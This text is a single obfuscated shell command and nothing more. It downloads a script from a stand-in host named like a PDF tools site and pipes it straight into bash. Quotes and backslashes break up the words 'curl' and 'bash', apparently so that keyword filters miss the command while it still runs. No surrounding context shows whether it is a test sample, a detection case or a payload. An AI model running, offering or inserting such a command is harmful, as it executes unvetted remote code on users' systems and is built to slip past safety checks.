c""u'r'l https://pdf-tools.example/x | b\ash
